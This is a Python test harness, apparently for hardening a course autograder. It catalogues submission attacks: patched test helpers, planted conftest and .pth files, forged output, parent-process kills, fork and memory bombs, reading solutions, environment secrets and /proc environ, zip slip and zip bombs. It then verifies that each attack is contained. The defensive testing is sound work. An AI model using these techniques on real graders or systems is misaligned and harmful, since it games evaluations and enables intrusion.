    Attack("answers from a table of the handout's inputs", edited(MUL_ZERO, answer_table), MUL_ZERO),
    Attack("a complex output whose real part is right", edited(WRONG_MUL, lambda ctx: COMPLEX_MUL), WRONG_MUL,
           says=[("Mul", "returned complex numbers")]),
    Attack("a lone surrogate and terminal codes in every string it controls",
           edited([], lambda ctx: in_pow_backward(HOSTILE_STRINGS)), POW_RAISES, check=nothing_raw),
    # the checks' own machinery
    Attack("np.allclose, np.isclose, np.testing.* patched", edited(WRONG_MUL, lambda ctx: at_import(ALWAYS_EQUAL)), WRONG_MUL),
    Attack("conftest.py and pytest.ini in the submission",
           edited(WRONG_MUL, files=lambda ctx: {"conftest.py": PASS_EVERYTHING_CONFTEST, "pytest.ini": SKIP_MUL_INI,
                                                "autodiff/conftest.py": PASS_EVERYTHING_CONFTEST}), WRONG_MUL,
           check=ignored_files("conftest.py", "pytest.ini", "autodiff/conftest.py")),
    Attack("sitecustomize.py, usercustomize.py and a .pth file in the submission",
           edited(WRONG_MUL, files=lambda ctx: {"sitecustomize.py": PATCH_NUMPY, "usercustomize.py": PATCH_NUMPY,
                                                "autodiff/sitecustomize.py": PATCH_NUMPY, "evil.pth": PATCH_NUMPY}),
           WRONG_MUL, check=ignored_files("sitecustomize.py", "usercustomize.py", "autodiff/sitecustomize.py", "evil.pth")),
    Attack("a .pth file written into the grader's site-packages", edited(WRONG_MUL, pth_written_to_site_packages),
           WRONG_MUL, weakest="user-namespace", check=no_pth_written),
    Attack("atexit handler rewrites every report it can find", edited(WRONG_MUL, rewrite_reports_at_exit),
           WRONG_MUL + ["regularizers.py fails to import"], says=[("l2_penalty", "importing regularizers.py stopped the worker")]),
    Attack("detached child process rewrites the results file", edited(WRONG_MUL, detached_rewriter), WRONG_MUL),
    Attack("fake 'passed' lines printed to stdout and stderr", edited(WRONG_MUL, lambda ctx: in_mul_forward(FAKE_OUTPUT)),
           WRONG_MUL, says=[("Mul", "values differ")]),
    # exits, kills, hangs
    Attack("sys.exit(0) at import", edited([], lambda ctx: at_import("import sys\nsys.exit(0)\n")), OPS_BROKEN,
           says=[("Mul", "importing ops.py called sys.exit(0)")]),
    Attack("sys.exit(0) inside an op", edited([], lambda ctx: in_pow_backward("import sys\nsys.exit(0)\n")), POW_RAISES,
           says=[("Pow", "Pow.backward called sys.exit(0)")]),
    Attack("os._exit(0) at import", edited([], lambda ctx: at_import("import os\nos._exit(0)\n")), OPS_BROKEN,
           says=[("Mul", "importing ops.py stopped the worker: the worker exited with status 0")]),
    Attack("os._exit(0) inside an op", edited([], lambda ctx: in_pow_backward("import os\nos._exit(0)\n")), POW_RAISES,
           says=[("Pow", "the worker exited with status 0")]),
    Attack("os.kill(os.getppid(), 9) at import", edited(WRONG_MUL, kill_parent(at_import)), WRONG_MUL,
           weakest="user-namespace", beyond=("uid",), beyond_why=SUPERVISOR_SAME_UID),
    Attack("os.kill(os.getppid(), 9) inside an op", edited(WRONG_MUL, kill_parent(in_mul_forward)), WRONG_MUL,
           weakest="user-namespace", beyond=("uid",), beyond_why=SUPERVISOR_SAME_UID),
    Attack("SIGTERM, SIGXCPU, ... ignored, then while True in an op",
           edited([], lambda ctx: joined(at_import(IGNORE_SIGNALS), in_pow_backward("while True:\n    pass\n"))),
           POW_RAISES, says=[("Pow", TIMED_OUT)], slow=True),
    Attack("while True inside an op", edited([], lambda ctx: in_pow_backward("while True:\n    pass\n")), POW_RAISES,
           says=[("Pow", TIMED_OUT)], slow=True),
    Attack("time.sleep(10**6) inside an op", edited([], lambda ctx: in_pow_backward("import time\ntime.sleep(10 ** 6)\n")),
           POW_RAISES, says=[("Pow", TIMED_OUT)], slow=True),
    # resources
    Attack("memory bomb", edited([], lambda ctx: joined(at_import("_hog = []\n"), in_pow_backward(MEMORY_BOMB))), POW_RAISES,
           says=[("Pow", "MemoryError")]),
    Attack("fork bomb", edited([], fork_bomb), POW_RAISES, weakest="uid", says=[("Pow", TIMED_OUT)], slow=True),
    Attack("thread bomb", edited([], lambda ctx: in_pow_backward(THREAD_BOMB)), POW_RAISES,
           says=[("Pow", "can't start new thread")]),
    Attack("100 MB to stdout and stderr", edited([], lambda ctx: in_pow_backward(FLOOD_OUTPUT)), POW_RAISES,
           says=[("Pow", "File too large")]),
    Attack("a 1 GB file written to /tmp", edited([], big_file_in_tmp), POW_RAISES, says=[("Pow", "File too large")]),
    Attack("files left in /tmp, /dev/shm, $HOME and the exchange file for the next group's worker", edited(WRONG_MUL, files_for_the_next_group),
           WRONG_MUL, weakest="uid"),
    # reading what the grader keeps
    Attack("reading the MNIST test labels", edited(WRONG_MUL, read_mnist_test_labels), WRONG_MUL, weakest="user-namespace"),
    Attack("copying the solutions", edited(WRONG_MUL, copy_the_solutions), WRONG_MUL, weakest="user-namespace"),
    Attack("reading the checks' source", edited(WRONG_MUL, read_file(ROOT / "grader" / "checks" / "test_functions.py")),
           WRONG_MUL, weakest="user-namespace"),
    Attack("reading the rubric", edited(WRONG_MUL, read_file(ROOT / "grader" / "rubric.toml")), WRONG_MUL,
           weakest="user-namespace"),
    Attack("reading the environment (os.environ)", edited(WRONG_MUL, read_environment), WRONG_MUL),
    Attack("reading the grader's environment (/proc/*/environ)", edited(WRONG_MUL, read_other_processes_environment),
           WRONG_MUL, weakest="user-namespace"),
    Attack("connecting to a listener on 127.0.0.1", edited(WRONG_MUL, connect_to_listener), WRONG_MUL,
           weakest="user-namespace", beyond=("uid",)),
    # the channel between the grader and the worker
    Attack("forged replies with control fields on every pipe, from the op and a forked child, then exit",
           edited(WRONG_MUL, lambda ctx: in_mul_forward(FORGE_REPLIES)), WRONG_MUL, weakest="user-namespace"),
    Attack("a grandchild writing on the inherited pipes after its group", edited([], lambda ctx: in_pow_backward(PIPE_WRITER)),
           POW_RAISES),
    Attack("a line printed on stderr as the sandbox's own error, then os._exit(1)",
           edited([], lambda ctx: in_pow_backward(SANDBOX_SAYS + "import os\nos._exit(1)\n")), POW_RAISES,
           says=[("Pow", "the worker exited with status 1")], check=not_blamed_on_the_sandbox),
    Attack("links in place of the grader's logs and runtime, then the supervisor killed",
           edited([], links_in_place_of_the_graders_files), POW_RAISES, weakest="user-namespace", check=root_only_file_unchanged),
    Attack("reading a key in the grader's session keyring", edited(WRONG_MUL, read_session_key), WRONG_MUL,
           weakest="user-namespace"),
    # MNIST credit without a backward: the trusted side trains, the worker only computes gradients
    Attack("MNIST: predict replaced by nearest neighbours", edited(ZERO_MATMUL, lambda ctx: at_end_of_losses(NEAREST_NEIGHBOUR)),
           ZERO_MATMUL, says=[("MNIST", TRAINED)]),
    Attack("MNIST: predict answering from a table of the test labels", edited(ZERO_MATMUL, label_lookup), ZERO_MATMUL,
           says=[("MNIST", TRAINED)]),
    Attack("MNIST: train replaced by a hand-written trainer",
           edited(ZERO_MATMUL, lambda ctx: at_end_of_losses(HAND_TRAINER + "\nimport autodiff.train as _course\n"
                                                                          "_course.train = _hand_train\n")), ZERO_MATMUL,
           says=[("MNIST", TRAINED)]),
    Attack("MNIST: a notebook's Matmul training the model by hand", hand_trainer_in_notebook, ZERO_MATMUL,
           says=[("MNIST", TRAINED)]),
    Attack("MNIST: weights trained elsewhere, reached by the trusted SGD in one step", steering(1), ZERO_MATMUL,
           says=[("MNIST", "is not lr × MLP3's gradient on this batch")]),
    Attack("MNIST: weights trained elsewhere, reached by the trusted SGD over 60 small steps", steering(60), ZERO_MATMUL,
           says=[("MNIST", "is not lr × MLP3's gradient on this batch")]),
    Attack("MNIST: the exchange file replaced by a FIFO", edited(ZERO_MATMUL, lambda ctx: at_end_of_losses(EXCHANGE_REPLACED)),
           ZERO_MATMUL, says=[("MNIST", TRAINED)]),
    Attack("MNIST: the exchange file cut to nothing at every step", edited(ZERO_MATMUL, lambda ctx: at_end_of_losses(EXCHANGE_CUT)),
           ZERO_MATMUL),
    # archives
    Attack("zip slip (../ entries)", zip_slip, WRONG_MUL, trusted_side=True, check=nothing_written_outside,
           says=[("notes", "or a link): ../autodiff/ops.py, autodiff/../../ops.py")]),
    Attack("zip with absolute paths", absolute_paths, WRONG_MUL, trusted_side=True, check=nothing_written_outside,
           says=[("notes", "or a link): /tmp/autodiff-attack-")]),
    Attack("zip with links to solutions/ and /etc/passwd", zip_with_links, ["no ops.py, no regularizers.py"],
           trusted_side=True, says=[("notes", "link): autodiff/ops.py, autodiff/regularizers.py")]),
    Attack("folder with links to solutions/ and /etc/passwd", folder_with_links, ["no ops.py, no regularizers.py"],
           trusted_side=True, says=[("notes", "autodiff/ops.py is a link: not used")]),
    Attack("folder whose autodiff/ is a link to solutions/", folder_with_linked_package, ["no graded module"],
           trusted_side=True, says=[("notes", "autodiff/ops.py is a link: not used")]),
    Attack("zip bomb (1 MB unpacking to 1 GB)", zip_bomb, trusted_side=True,
           unreadable=f"bomb.zip unpacks to more than {MAX_UNPACKED_BYTES >> 20} MB"),
    Attack("zip of 10,000 files", ten_thousand_files, trusted_side=True,
           unreadable=f"that could be graded, more than {MAX_ZIP_MEMBERS}"),
    Attack("non-UTF-8 names in a zip", non_utf8_names_in_zip, WRONG_MUL, trusted_side=True),
    Attack("non-UTF-8 names in a folder", non_utf8_names_in_folder, WRONG_MUL, trusted_side=True),
    # notebooks
    Attack("notebook that is not JSON", invalid_json_notebook, trusted_side=True,
           unreadable="could not be read as a notebook"),
    Attack("notebook in nbformat v3", notebook_v3, WRONG_MUL),
    Attack("notebook with 50 MB of cell outputs", notebook_with_huge_outputs, WRONG_MUL),
    Attack("notebook cell that defines a graded name, then raises", notebook_cell_defines_then_raises, WRONG_MUL,
           says=[("notes", "raised: RuntimeError: run the cells above first")]),
    Attack("notebook cell that forges what the worker says of its cells", notebook_forging_its_cells, WRONG_MUL,
           check=cells_said_as_data),
    Attack("notebook %%writefile cell whose text is not UTF-8", notebook_writing_no_utf8, WRONG_MUL,
           says=[("notes", "cannot be written as UTF-8")]),
    Attack("notebook cell that ignores its time budget and never ends", notebook_cell_ignoring_its_budget, WRONG_MUL,
           says=[("notes", "stopped the worker: it did not stop at its budget")], slow=True),
    Attack("notebook cell that rewrites the plan and the engine for the other groups", notebook_rewriting_its_run,
           WRONG_MUL),
]

WHY_NOT = {"process": "student code runs as the grader's own user, with the grader's files, processes and network "
                      "in reach, and no process limit of its own",
           "user-namespace": "the worker has no uid of its own, so RLIMIT_NPROC cannot bound its processes"}
BEYOND = {"uid": "the network is not blocked (no namespaces): only file permissions and the uid separate the worker"}


def skip_reason(attack, level):
    """Why this attack is not run at this level, or None."""
    if not level_available(level):
        return f"isolation level {level!r} is not available on this machine"
    if ISOLATION_LEVELS.index(level) > ISOLATION_LEVELS.index(attack.weakest):
        enough = " or ".join(ISOLATION_LEVELS[:ISOLATION_LEVELS.index(attack.weakest) + 1])
        return f"needs {enough} isolation: at {level!r} level {WHY_NOT[level]}"
    if level in attack.beyond:
        return f"not stopped at {level!r} level: {attack.beyond_why or BEYOND[level]}"
    if attack.trusted_side and level != strongest_level():
        return "fought off while the submission is read, before any student code runs: run at the strongest level only"
    return None


# -- running one ----------------------------------------------------------------------------------

@dataclass
class Outcome:
    problems: list           # empty when the attack held
    unearned: float = 0.0    # points above the honest submission's, summed over groups
    crashed: bool = False    # the grader raised, or the checks could not run
    others_graded: bool = None  # every group the honest bug spares got full marks (None: nothing to grade)
    seconds: float = 0.0


@contextlib.contextmanager
def attack_context():
    folder = Path(tempfile.mkdtemp(prefix="autodiff-attack-"))
    folder.chmod(0o755)  # the sandbox's uid must reach the scratch folders inside
    listener = socket.create_server(("127.0.0.1", 0))
    ctx = Context(folder=folder, token=secrets.token_hex(8), secret=f"s3cret-{secrets.token_hex(8)}", listener=listener)
    ctx.grading.mkdir(mode=0o755)
    ctx.grading.chmod(0o755)
    try:
        yield ctx
    finally:
        listener.close()
        kill_survivors(ctx.token)
        for path in ctx.cleanup:
            if path.is_dir():
                shutil.rmtree(path, ignore_errors=True)
            else:
                path.unlink(missing_ok=True)
        shutil.rmtree(folder, ignore_errors=True)


@contextlib.contextmanager
def grading_environment(ctx):
    """The grader's environment holds the secret; its temporary folders go to ctx.grading."""
    saved_tempdir, saved_secret = tempfile.tempdir, os.environ.get(SECRET_NAME)
    tempfile.tempdir, os.environ[SECRET_NAME] = str(ctx.grading), ctx.secret
    try:
        yield
    finally:
        tempfile.tempdir = saved_tempdir
        if saved_secret is None:
            del os.environ[SECRET_NAME]
        else:
            os.environ[SECRET_NAME] = saved_secret


def survivors(token):
    """Processes whose command line holds the token: what an attack left running."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if token.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            pass
    return found


def kill_survivors(token):
    for pid in survivors(token):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def run_attack(attack, level, rubric=FAST_RUBRIC):
    """Grade the attack's submission at this level; what went wrong, if anything."""
    honest = honest_scores(attack.honest, rubric) if attack.unreadable is None else None
    with attack_context() as ctx:
        submission = attack.make(ctx.folder, ctx)
        started = time.perf_counter()
        try:
            with grading_environment(ctx):
                report = grade(submission, rubric, level)
            validate(report)
            for format in ("native", "gradescope"):
                write_report(report, ctx.folder / f"report-{format}.json", format)
        except Exception as error:  # the grader itself failed: the worst outcome
            return Outcome([f"the grader crashed: {type(error).__name__}: {error}"], crashed=True,
                           seconds=time.perf_counter() - started)
        seconds = time.perf_counter() - started
        problems, outcome = common_problems(report, ctx), Outcome([], seconds=seconds)
        if attack.unreadable is not None:
            problems += refused_problems(report, attack.unreadable)
        else:
            problems += score_problems(report, honest, outcome)
        for where, text in attack.says:
            shown = "\n".join(report["submission"]["notes"]) if where == "notes" else feedback(report, where)
            if text not in shown:
                problems.append(f"the {where if where == 'notes' else where + ' feedback'} does not say {text!r}: "
                                f"{shown[-600:]!r}")
        if attack.trusted_side and any(ctx.grading.iterdir()):  # unpacking folders included
            problems.append(f"left in the grader's temporary folder: {sorted(p.name for p in ctx.grading.iterdir())}")
        if attack.check:
            problems += attack.check(report, ctx)
        outcome.crashed = any(p.startswith("the checks could not run") or "the grader failed" in p for p in problems)
        outcome.problems = problems
        return outcome


def common_problems(report, ctx):
    problems = [message for message in report["messages"] if "could not run" in message or "did not finish" in message]
    problems += [f"{test['name']}: {test['output'][:200]}" for test in report["tests"]
                 if "the grader failed" in test["output"]]
    text = json.dumps(report, ensure_ascii=False)
    if ctx.marker in text or ctx.secret in text:
        problems.append("the report holds what the attack read")
    if survivors(ctx.token):
        problems.append(f"processes left running: {survivors(ctx.token)}")
    ctx.listener.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        ctx.listener.accept()[0].close()
        problems.append("a connection reached the listener on 127.0.0.1")
    return problems


def refused_problems(report, message):
    error = report["submission"]["error"] or ""
    problems = [] if message in error else [f"not refused with {message!r}: {error or 'graded'}"]
    return problems + ([f"scored {report['score']}"] if report["score"] != 0 else [])


def score_problems(report, honest, outcome):
    """Group by group, the attacked submission must score what the honest one scores."""
    got = group_scores(report)
    problems = []
    for group, (expected, most) in honest.items():
        score = got.get(group, (0, most))[0]
        if score > expected:
            outcome.unearned += score - expected
            problems.append(f"{group}: {score:g}/{most} where the honest submission gets {expected:g}")
        elif score < expected:
            problems.append(f"{group}: {score:g}/{most}, less than the honest submission's {expected:g}")
    outcome.others_graded = all(got.get(g, (0,))[0] == most for g, (expected, most) in honest.items() if expected == most)
    return problems
